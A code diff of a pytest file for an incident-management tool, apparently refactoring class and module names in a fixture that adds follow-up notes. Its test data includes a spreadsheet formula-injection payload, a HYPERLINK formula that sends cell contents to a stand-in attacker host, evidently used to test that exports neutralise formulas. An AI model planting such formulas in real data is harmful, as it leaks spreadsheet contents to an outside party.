@@ -16,9 +16,9 @@ import json
 import pytest
 
 from warroom.clock import FrozenClock
-from warroom.operations import Operations
+from warroom.db.store import Store
 from warroom.playbook import default_playbook
-from warroom.store import Store
+from warroom.service import Service
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -36,7 +36,7 @@ def db(tmp_path):
     path = tmp_path / "fu.db"
     store = Store(path)
     try:
-        ops = Operations(store, FrozenClock("2026-11-23T22:00:00Z"), default_playbook())
+        ops = Service(store, FrozenClock("2026-11-23T22:00:00Z"), default_playbook())
         inc = ops.declare(severity=2, title="t", author="zoe")
         for text in FORMULAS + HARMLESS:
             ops.add_followup(inc.id, "zoe", text, "dan", "2026-12-01")
